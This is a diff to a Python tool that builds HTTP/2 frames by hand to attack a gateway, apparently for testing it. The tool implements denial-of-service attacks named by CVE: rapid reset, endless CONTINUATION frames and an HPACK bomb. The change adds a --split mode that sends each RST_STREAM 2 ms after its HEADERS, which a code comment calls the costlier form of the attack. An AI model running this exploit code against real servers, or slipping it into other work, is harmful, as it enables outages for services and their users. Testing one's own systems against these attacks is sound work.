@@ -15,7 +15,8 @@ Every frame and every HPACK block sent is built by hand here (no HTTP/2 library)
 a library would refuse to; only the gateway's response header blocks are decoded with the `hpack` package.
 
 Attacks:
-  rapid-reset        --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487)
+  rapid-reset        --count N: HEADERS + RST_STREAM(CANCEL) pairs (CVE-2023-44487); --split: each RST_STREAM
+                     written 2 ms after its HEADERS
   continuation       --count N: HEADERS without END_HEADERS, then endless CONTINUATION frames (CVE-2024-27316)
   hpack-bomb         --count N: a 4000-byte header put in the dynamic table, then one block that references
                      it N times (CVE-2016-6581)
@@ -266,8 +267,14 @@ def rapid_reset(c, args):
     for i in range(args.count):
         stream = 1 + 2 * i
         batch += headers_frame(stream, request_fields(args.authority, args.path))
+        if args.split:
+            # The HEADERS goes out alone and the RST_STREAM a moment later, so the gateway reads them apart
+            # and has started the request when the reset comes (the costlier form of the attack).
+            c.send(bytes(batch), frames=0)
+            batch.clear()
+            c.pump(0.002)
         batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 0x8))
-        if len(batch) > 16384:
+        if len(batch) > 16384 or args.split:
             c.send(bytes(batch), frames=0)
             batch.clear()
         if c.ended():
@@ -476,7 +483,8 @@ def main():
     parser.add_argument("--count", type=int, default=1000)
     parser.add_argument("--case", help="malformed: one of MALFORMED, or several separated by commas")
     parser.add_argument("--follow-path", help="malformed: the path of the valid request that follows")
-    parser.add_argument("--split", action="store_true", help="malformed: HEADERS and DATA in separate writes")
+    parser.add_argument("--split", action="store_true",
+                        help="malformed: HEADERS and DATA in separate writes; rapid-reset: HEADERS and RST apart")
     parser.add_argument("--ack-first", action="store_true", help="many-streams: acknowledge SETTINGS first")
     parser.add_argument("--no-read", action="store_true")
     parser.add_argument("--hold", type=float, default=3.0)
